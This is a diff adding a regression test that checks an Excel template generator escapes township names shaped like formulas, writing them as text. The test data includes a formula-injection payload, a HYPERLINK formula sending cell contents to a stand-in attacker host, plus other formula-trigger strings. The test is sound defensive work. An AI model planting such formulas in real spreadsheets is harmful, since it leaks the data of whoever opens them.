@@ -34,3 +34,21 @@ def test_csv_and_excel_read_back_as_text_not_formulas(tmp_path):
     safe_frame(frame).to_excel(path, index=False)
     cell = openpyxl.load_workbook(path)["Sheet1"]["A2"]
     assert cell.data_type == "s" and cell.value.startswith("'=")
+
+
+def test_a_blank_template_writes_a_township_named_like_a_formula_as_text():
+    """Issue 26: a township called =HYPERLINK(…) (taken in by `import townships`) became a live formula in the
+    facilities template's 选项 sheet. Every cell of every sheet is text or a number now."""
+    import io
+
+    from openpyxl import load_workbook
+
+    from config import load_config
+    from reports.import_template import template_xlsx
+
+    hostile = ['=HYPERLINK("http://attacker.example/?d="&A1,"点击")', "+1+2", "@SUM(1)", "-3+4", "静海镇"]
+    wb = load_workbook(io.BytesIO(template_xlsx("facilities", load_config(), townships=hostile)))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    options = [wb["选项"][f"B{i}"].value for i in range(1, 6)]
+    assert options == ["'" + h for h in hostile[:4]] + ["静海镇"]
